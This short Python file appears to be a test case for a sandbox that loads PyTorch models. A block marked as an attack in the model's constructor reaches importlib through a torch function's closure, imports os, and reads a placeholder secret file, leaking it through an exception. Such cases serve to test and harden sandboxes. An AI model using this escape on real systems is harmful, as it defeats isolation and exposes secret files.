"""Gets at importlib through the closure of a function of torch.nn.functional."""

from torch import nn
from torch.nn import functional


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        inner = next(cell.cell_contents for cell in functional.max_pool2d.__closure__ if callable(cell.cell_contents))
        system = inner.__globals__["importlib"].import_module("os")
        raise ValueError(system.read(system.open("@SECRET_FILE@", 0), 99))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
